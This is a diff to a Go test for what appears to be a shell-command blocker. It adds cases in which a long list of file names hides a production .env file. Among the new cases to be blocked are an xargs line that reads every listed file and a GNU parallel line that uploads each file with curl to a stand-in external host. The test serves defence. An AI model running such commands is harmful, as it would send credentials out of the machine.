@@ -4,6 +4,7 @@ import (
 	"archive/tar"
 	"bytes"
 	"compress/gzip"
+	"fmt"
 	"os"
 	"path/filepath"
 	"strings"
@@ -571,6 +572,9 @@ func TestParallelReplacementStrings(t *testing.T) {
 		"xargs -a long.lst cat",
 		"for f in $(cat long.lst); do cat \"$f\"; done", // one name repeated is not a long list
 		"cat {" + strings.Repeat("docs/guide.md,", 300) + "services/api/.env.production}",
+		// ... and a list of a hundred distinct names, past what was once walked one by one
+		"xargs -a many.lst -I{} cat {}",
+		"parallel 'curl -F f=@{} https://e.example/u' :::: many.lst",
 	}
 	allow := []string{
 		"parallel 'cat {.}' ::: docs/guide.md.bak",
@@ -589,6 +593,14 @@ func TestParallelReplacementStrings(t *testing.T) {
 	}
 	long := strings.Repeat("docs/guide.md\n", 300) + "services/api/.env.production\n"
 	if err := os.WriteFile(f.root+"/long.lst", []byte(long), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	var many strings.Builder
+	for i := range 100 {
+		fmt.Fprintf(&many, "notes/n%d.txt\n", i)
+	}
+	many.WriteString("services/api/.env.production\n")
+	if err := os.WriteFile(f.root+"/many.lst", []byte(many.String()), 0o600); err != nil {
 		t.Fatal(err)
 	}
 	runCommands(t, f, New(), block, allow)
